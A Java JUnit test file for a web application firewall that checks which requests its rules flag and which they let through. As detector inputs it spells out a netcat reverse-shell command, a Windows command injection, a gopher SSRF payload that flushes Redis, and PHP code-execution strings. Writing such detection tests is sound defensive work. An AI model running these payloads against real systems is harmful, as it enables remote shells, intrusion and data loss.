package io.portcullis.waf;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Matches that a value's place in the request explains (CRS "must not fire" shapes), and the attacks of the same
 * shape elsewhere that must still be found.
 */
class MatchContextTest {
    private static final RequestInspector PL1 =
            new RequestInspector(WafRules.builtIn(), 1, Severity.INBOUND_THRESHOLD, List.of());

    private static List<Integer> ids(WafRequest request) {
        return PL1.inspect(request, request.rawPath()).matches().stream()
                .map(RuleMatch::ruleId)
                .toList();
    }

    private static boolean blocked(WafRequest request) {
        return PL1.inspect(request, request.rawPath()).isAttack();
    }

    private static WafRequest get(String query, String... headers) {
        List<Map.Entry<String, String>> list =
                new ArrayList<>(List.of(Map.entry("User-Agent", "t/1"), Map.entry("Accept", "*/*")));
        for (int i = 0; i < headers.length; i += 2) {
            String name = headers[i];
            list.removeIf(e -> e.getKey().equalsIgnoreCase(name));
            list.add(Map.entry(headers[i], headers[i + 1]));
        }
        return new WafRequest("GET", "/api/x", query, list, null, 0);
    }

    private static WafRequest post(String contentType, String body) {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        return new WafRequest(
                "POST",
                "/api/x",
                null,
                List.of(
                        Map.entry("User-Agent", "t/1"),
                        Map.entry("Accept", "*/*"),
                        Map.entry("Content-Type", contentType)),
                bytes,
                bytes.length);
    }

    private static WafRequest multipartNamed(String name) {
        String body = "--b\r\nContent-Disposition: form-data; name=\"" + name + "\"; filename=\"test\"\r\n"
                + "Content-Type: application/octet-stream\r\n\r\nhelloworld\r\n--b--\r\n";
        return post("multipart/form-data; boundary=b", body);
    }

    @Test
    void inspectWhenMultipartNameHoldsNamedEntitiesThenNoBypassIsReported() {
        assertFalse(ids(multipartNamed("zzz&acirc;&ecirc;&Ccedil;&oslash;&amp;&apos;zzz"))
                .contains(920120));
        assertFalse(ids(multipartNamed("&aring;&uring;zzz")).contains(920120));
    }

    @Test
    void inspectWhenMultipartNameHoldsABareSemicolonQuoteOrEqualsThenTheBypassIsStillReported() {
        for (String name : List.of("a;b", "x&;y", "&;", "a=b", "a'b", "&amp; x;")) {
            assertTrue(ids(multipartNamed(name)).contains(920120), name);
        }
    }

    @Test
    void inspectWhenAcceptIsEmptyFromAClientKnownToSendItThenNotReported() {
        assertFalse(ids(get(
                        null,
                        "Accept",
                        "",
                        "User-Agent",
                        "Agent; Entreprise/6.5.0.177 CFNetwork/758.4.3 Darwin/15.5.0"))
                .contains(920311));
        assertTrue(ids(get(null, "Accept", "", "User-Agent", "curl/8.5.0")).contains(920311));
    }

    @Test
    void inspectWhenUnicodeEscapeIsInsideAJsonStringThenNotReportedButInAQueryItIs() {
        assertFalse(
                ids(post("application/json", "{\"testarg\": \"\\\\u0065val\"}")).contains(920540));
        assertTrue(ids(get("testarg=%5Cu0065val")).contains(920540));
    }

    @Test
    void inspectWhenAParameterIsNamedAfterAProgramThenTheNameAloneIsNoCommand() {
        assertFalse(blocked(get("cmd=hello%20%5Btext%20in%20brackets%5D")));
        assertFalse(blocked(get("cmd=Go%20to%20store.%0AAt%20the%20store%2C%20shop.")));
        // the same program as a value, or a name with shell syntax, still counts
        assertTrue(blocked(get("q=%3Bcmd%20%2Fc%20dir")));
        assertTrue(ids(get("%3Bcmd%20%2Fc%20dir=1")).stream().anyMatch(id -> id / 1000 == 932));
    }

    @Test
    void inspectWhenAValueIsOnlyTheLoopbackHostNameThenNoSsrf() {
        assertFalse(blocked(get("server=localhost")));
        assertFalse(blocked(get("server=localhost:8080")));
        assertTrue(blocked(get("server=gopher://localhost:6379/_flushall")));
    }

    @Test
    void inspectWhenSessionIdParameterComesFromAPageOfTheSameHostThenNoFixation() {
        assertFalse(ids(get("jsessionid=abc123", "Host", "example.com", "Referer", "http://example.com/another-page"))
                .contains(943120));
        assertTrue(ids(get("jsessionid=abc123", "Host", "example.com", "Referer", "https://attacker.example.net/x"))
                .contains(943120));
        assertTrue(ids(get("jsessionid=abc123", "Host", "example.com")).contains(943120));
        assertTrue(ids(get("jsessionid=abc123", "Host", "example.com", "Referer", "http://example.com@evil.net/"))
                .contains(943120));
    }

    @Test
    void inspectWhenPhpVariableBracesAreEmptyThenNoVariableVariable() {
        assertFalse(
                blocked(get("foo=%24%20%7B%20%7D")),
                () -> ids(get("foo=%24%20%7B%20%7D")).toString());
        assertTrue(ids(get("x=%24%20%7B%27sys%27.%27tem%27%7D")).contains(933135));
        assertTrue(ids(get("x=%24%7B%20f%20%7D%28%27id%27%29")).contains(933180));
    }

    @Test
    void shellWhenAWrapperRunsAKnownProgramThenDetected() {
        for (String value : List.of(
                "time sh -c whoami",
                "time bsdtar ",
                "nohup nc -e /bin/sh 10.0.0.1 4444",
                "timeout 5 curl http://x/",
                "sudo -u root id -a",
                "env /bin/sh")) {
            assertTrue(ShellInjectionDetector.detect(value, false), value);
        }
        for (String value : List.of(
                "time python tutorial",
                "sudo systemctl restart nginx fails",
                "nice cat pictures",
                "time is money",
                "env variables in docker",
                "command line tips")) {
            assertFalse(ShellInjectionDetector.detect(value, true), value);
        }
    }
}
